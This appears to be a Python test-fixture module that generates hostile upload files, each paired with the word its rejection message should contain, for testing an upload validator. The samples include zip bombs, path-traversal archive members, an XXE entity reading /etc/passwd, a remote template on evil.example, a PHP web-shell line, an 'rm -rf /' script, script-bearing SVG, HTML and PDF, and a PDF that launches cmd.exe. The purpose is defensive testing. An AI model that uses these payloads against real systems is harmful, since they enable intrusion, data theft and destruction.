"""Files that wish us ill, made anew for each run: what each is, and what is wrong with it."""

import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from zipfile import ZIP_BZIP2

from app.evidence.kinds import LARGEST_FILE
from tests.evidence.samples import (
    DOCX_PARTS,
    ODT_PARTS,
    XLSX_PARTS,
    chunk,
    docx,
    jpeg,
    pdf,
    png,
    png_of,
    text_in_pdf,
    webp,
    zipped,
)

Parts = dict[str, bytes]
MEGA = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """`word` stands in the sentence that refuses it."""

    what: str
    name: str
    content: bytes
    word: str


def hostile_files() -> Iterator[Hostile]:
    yield from _archives()
    yield from _documents()
    yield from _pictures()
    yield from _other_pictures()
    yield from _pages_and_programs()
    yield from _pdfs()
    yield from _others()


def _archives() -> Iterator[Hostile]:
    inner = zipped({"inner.txt": bytes(MEGA)})
    yield Hostile("flat bomb", "a.docx", docx({"word/media/a.bin": bytes(60 * MEGA)}), "unpacks")
    yield Hostile("dense member", "a.docx", docx({"word/media/a.bin": bytes(4 * MEGA)}), "unpacks")
    many = {f"word/media/{number}.bin": bytes(900_000) for number in range(80)}
    yield Hostile("many small bombs", "a.docx", docx(many), "unpacks")
    yield Hostile("bomb in a bomb", "a.docx", docx({"word/embeddings/a.zip": inner}), "another file")
    crowd = {f"word/{number}.xml": b"<a/>" for number in range(201)}
    yield Hostile("201 members", "a.docx", docx(crowd), "unpacks")
    yield Hostile("overlapping members", "a.docx", _overlapping(), "unpacks")
    yield Hostile("a size that lies", "a.docx", _lying(), "damaged")
    yield Hostile("plain archive", "a.zip", inner, "Archives")
    yield Hostile("archive called a document", "a.docx", inner, "Archives")
    yield Hostile("empty archive", "a.docx", b"PK\x05\x06" + bytes(18), "Archives")
    yield Hostile(
        "archive with a page after it", "a.docx", docx({}) + b"<script>alert(1)</script>", "damaged"
    )
    yield Hostile("archive with a program before it", "a.docx", b"#!/bin/sh\n" + docx({}), "scripts")
    yield Hostile("truncated document", "a.docx", docx({})[:-40], "damaged")
    yield Hostile("cut in the middle", "a.docx", docx({})[:200], "damaged")
    yield Hostile("climbing member", "a.docx", docx({"../../etc/passwd": b"x"}), "damaged")
    yield Hostile("absolute member", "a.docx", docx({"/etc/passwd": b"x"}), "damaged")
    yield Hostile("backslash member", "a.docx", docx({"..\\evil.txt": b"x"}), "damaged")
    yield Hostile("unusual packing", "a.docx", zipped(DOCX_PARTS, ZIP_BZIP2), "damaged")
    yield Hostile("encrypted member", "a.docx", _encrypted_member(), "password")


def _documents() -> Iterator[Hostile]:
    types = DOCX_PARTS["[Content_Types].xml"]
    macro = types.replace(
        b"openxmlformats-officedocument.wordprocessingml.document", b"ms-word.document.macroEnabled"
    )
    sheet = XLSX_PARTS["[Content_Types].xml"].replace(
        b"openxmlformats-officedocument.spreadsheetml.sheet", b"ms-excel.sheet.macroEnabled"
    )
    entity = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    laughs = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    remote = (
        b'<Relationships><Relationship Id="a" Type="x/attachedTemplate" '
        b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    yield Hostile("docm", "a.docm", docx({"[Content_Types].xml": macro}), "macros")
    yield Hostile("docm called docx", "a.docx", docx({"word/vbaProject.bin": b"x"}), "macros")
    yield Hostile("xlsm", "a.xlsm", zipped(XLSX_PARTS | {"[Content_Types].xml": sheet}), "macros")
    yield Hostile("xlsm called xlsx", "a.xlsx", zipped(XLSX_PARTS | {"xl/vbaProject.bin": b"x"}), "macros")
    yield Hostile(
        "old macro sheet", "a.xlsx", zipped(XLSX_PARTS | {"xl/macrosheets/a.xml": b"<a/>"}), "macros"
    )
    yield Hostile("odt with Basic", "a.odt", zipped(ODT_PARTS | {"Basic/Standard/a.xml": b"<a/>"}), "macros")
    yield Hostile("external entity", "a.docx", docx({"word/document.xml": entity}), "elsewhere")
    yield Hostile("billion laughs", "a.docx", docx({"word/styles.xml": laughs}), "elsewhere")
    wide = {"word/document.xml": entity.decode().encode("utf-16")}
    yield Hostile("external entity in UTF-16", "a.docx", docx(wide), "elsewhere")
    yield Hostile("remote template", "a.docx", docx({"word/_rels/a.xml.rels": remote}), "elsewhere")
    yield Hostile("ActiveX", "a.docx", docx({"word/activeX/activeX1.xml": b"<a/>"}), "another file")
    yield Hostile("embedded program", "a.docx", docx({"word/embeddings/a.bin": b"MZ\x90\0"}), "another file")
    yield Hostile("embedded OLE", "a.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "another file")
    yield Hostile(
        "presentation", "a.odp", zipped({"mimetype": b"application/vnd.oasis.presentation"}), "Archives"
    )
    yield Hostile("old Word file", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "old Office")
    yield Hostile("rich text", "a.rtf", b"{\\rtf1 {\\object}}", "old Office")


def _pictures() -> Iterator[Hostile]:
    huge = struct.pack(">2I5B", 65535, 65535, 8, 6, 0, 0, 0)
    yield Hostile("PNG of 64 megapixels", "a.png", png_of(8000, 8000), "25 megapixels")
    yield Hostile("PNG header of 4 gigapixels", "a.png", png(header=huge), "25 megapixels")
    most = struct.pack(">2I5B", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0)
    yield Hostile("PNG header of billions of pixels a side", "a.png", png(header=most), "megapixels")
    none = struct.pack(">2I5B", 0, 0, 8, 6, 0, 0, 0)
    yield Hostile("PNG without a pixel", "a.png", png(header=none), "damaged")
    yield Hostile("truncated PNG", "a.png", png_of(300, 300, noise=True)[:2000], "damaged")
    yield Hostile("PNG start only", "a.png", b"\x89PNG\r\n\x1a\n", "damaged")
    broken = bytearray(png_of(300, 300, noise=True))
    broken[20] ^= 0xFF
    yield Hostile("PNG with a wrong checksum", "a.png", bytes(broken), "damaged")
    bomb = chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(30 * MEGA), 9))
    yield Hostile("PNG with a bomb for a text", "a.png", png(before=bomb), "damaged")
    photo = jpeg(64, 64)
    place = photo.index(b"\xff\xc0") + 5
    yield Hostile(
        "JPEG header of 4 gigapixels", "a.jpg", _patched(photo, place, b"\xff\xff\xff\xff"), "megapixels"
    )
    yield Hostile("truncated JPEG", "a.jpg", jpeg(300, 300)[:900], "damaged")
    yield Hostile("JPEG start only", "a.jpg", b"\xff\xd8\xff", "damaged")
    yield Hostile("WebP of 36 megapixels", "a.webp", webp(6000, 6000), "too much room")
    yield Hostile("truncated WebP", "a.webp", webp(300, 300)[:60], "damaged")
    yield Hostile("another format called WebP", "a.webp", b"RIFF\x10\0\0\0WEBPVP9 " + bytes(8), "damaged")


def _other_pictures() -> Iterator[Hostile]:
    yield Hostile("GIF", "a.gif", b"GIF89a\x01\0\x01\0\0\0\0;", "Pictures of this kind")
    yield Hostile("GIF called JPEG", "a.jpg", b"GIF89a/*\x01\0\x01\0*/=1;alert(1)", "Pictures of this kind")
    yield Hostile("BMP", "a.bmp", b"BM" + bytes(60), "Pictures of this kind")
    yield Hostile("TIFF", "a.tif", b"II*\0" + bytes(60), "Pictures of this kind")
    yield Hostile("HEIC", "IMG_1.HEIC", b"\0\0\0\x18ftypheic" + bytes(60), "JPEG")
    yield Hostile("AVIF", "a.avif", b"\0\0\0\x18ftypavif" + bytes(60), "Only photos")
    yield Hostile("film", "a.mp4", b"\0\0\0\x18ftypisom" + bytes(60), "Only photos")
    yield Hostile("icon", "a.ico", b"\0\0\1\0\1\0" + bytes(60), "Only photos")


def _pages_and_programs() -> Iterator[Hostile]:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield Hostile("SVG with a script", "a.svg", svg.encode(), "SVG")
    yield Hostile("SVG called PNG", "a.png", svg.encode(), "SVG")
    yield Hostile("SVG after a byte order mark", "a.svg", svg.encode("utf-8-sig"), "SVG")
    yield Hostile("SVG in UTF-16", "a.svg", svg.encode("utf-16-le"), "SVG")
    yield Hostile("SVG after a comment", "a.svg", b"<!-- hello -->\n" + svg.encode(), "SVG")
    yield Hostile("page", "a.html", b"<!DOCTYPE html><p>hello", "Web pages")
    yield Hostile("page called text", "a.txt", b"\n \t<HTML><body onload=alert(1)>", "Web pages")
    yield Hostile(
        "page far down in a text", "a.txt", b"hello\n" * 9000 + b"<script>alert(1)</script>", "Web pages"
    )
    yield Hostile("PHP", "a.php", b"<?php system($_GET['a']);", "Web pages")
    yield Hostile("XML with an entity", "a.xml", b'<?xml version="1.0"?><!DOCTYPE a []><a/>', "Web pages")
    yield Hostile("program", "a.exe", b"MZ\x90\0" + bytes(200), "Programs")
    yield Hostile("program called photo", "a.jpg", b"MZ\x90\0" + bytes(200), "Programs")
    yield Hostile("ELF", "a", b"\x7fELF\x02\x01" + bytes(200), "Programs")
    yield Hostile("shell script", "a.txt", b"#!/bin/sh\nrm -rf /\n", "Programs")
    yield Hostile("Java class", "a.class", b"\xca\xfe\xba\xbe" + bytes(60), "Programs")


def _pdfs() -> Iterator[Hostile]:
    packed = zlib.compress(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>")
    stream = b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
    bomb = zlib.compress(bytes(60 * MEGA), 9)
    yield Hostile("PDF with a script", "a.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "program")
    yield Hostile("PDF with a hidden script", "a.pdf", pdf(b"<< /S /J#61vaScript /JS (1) >>"), "program")
    yield Hostile("PDF with a packed script", "a.pdf", pdf(stream + packed + b"\nendstream"), "program")
    yield Hostile("PDF with a bomb", "a.pdf", pdf(stream + bomb + b"\nendstream"), "damaged")
    yield Hostile("PDF that starts a program", "a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "program")
    yield Hostile("PDF with a file in it", "a.pdf", pdf(b"<< /Type /EmbeddedFile >>"), "another file")
    yield Hostile("PDF with a film", "a.pdf", pdf(b"<< /Subtype /RichMedia >>"), "program")
    yield Hostile("PDF with a password", "a.pdf", pdf(b"", trailer=b"/Encrypt 9 0 R"), "password")
    yield Hostile("PDF that starts late", "a.pdf", b"hello\n" + pdf(b""), "does not begin")
    yield Hostile(
        "PDF after a page", "a.pdf", b"<html><script>alert(1)</script>\n" + pdf(b""), "does not begin"
    )
    yield Hostile("page after a PDF", "a.pdf", pdf(b"") + b"<script>alert(1)</script>", "damaged")
    yield Hostile("archive after a PDF", "a.pdf", pdf(b"") + docx({}), "damaged")
    yield Hostile("archive around the end of a PDF", "a.pdf", pdf(docx({})), "damaged")
    yield Hostile("truncated PDF", "a.pdf", text_in_pdf()[:-80], "damaged")
    yield Hostile("PDF start only", "a.pdf", b"%PDF-1.7\n", "damaged")
    yield Hostile("PDF of no version", "a.pdf", text_in_pdf().replace(b"%PDF-1.7", b"%PDF-x.y"), "damaged")


def _others() -> Iterator[Hostile]:
    yield Hostile("nothing", "a.txt", b"", "empty")
    yield Hostile("one byte too many", "a.txt", b"a" * (LARGEST_FILE + 1), "10 MB")
    yield Hostile("text with a NUL", "a.txt", b"hello\0world", "Only photos")
    yield Hostile("text with a bell", "a.txt", b"hello\x07world\x1b[2J", "Only photos")
    yield Hostile("bytes without sense", "a.jpg", bytes(range(256)) * 4, "Only photos")
    yield Hostile("gzip", "a.gz", b"\x1f\x8b\x08\0" + bytes(60), "Archives")
    yield Hostile("7z", "a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(60), "Archives")
    yield Hostile("RAR", "a.rar", b"Rar!\x1a\x07\0" + bytes(60), "Archives")
    yield Hostile("PostScript", "a.ps", b"%!PS-Adobe-3.0\n(a) run", "Only photos")


def _overlapping() -> bytes:
    """Every line of the table points to the same packed bytes."""
    content = bytearray(docx({"word/a.xml": b"a" * 900, "word/b.xml": b"a" * 900}))
    first = content.index(b"PK\x03\x04")
    for place in _places(content, b"PK\x01\x02"):
        content[place + 42 : place + 46] = struct.pack("<L", first)
    return bytes(content)


def _lying() -> bytes:
    """The table says one byte; the member unpacks to many."""
    content = bytearray(docx({}))
    for place in _places(content, b"PK\x01\x02"):
        content[place + 24 : place + 28] = struct.pack("<L", 1)
    return bytes(content)


def _encrypted_member() -> bytes:
    content = bytearray(docx({}))
    for place in _places(content, b"PK\x01\x02"):
        content[place + 8] |= 1
    return bytes(content)


def _places(content: bytearray, mark: bytes) -> Iterator[int]:
    place = content.find(mark)
    while place >= 0:
        yield place
        place = content.find(mark, place + 1)


def _patched(content: bytes, place: int, by: bytes) -> bytes:
    return content[:place] + by + content[place + len(by) :]
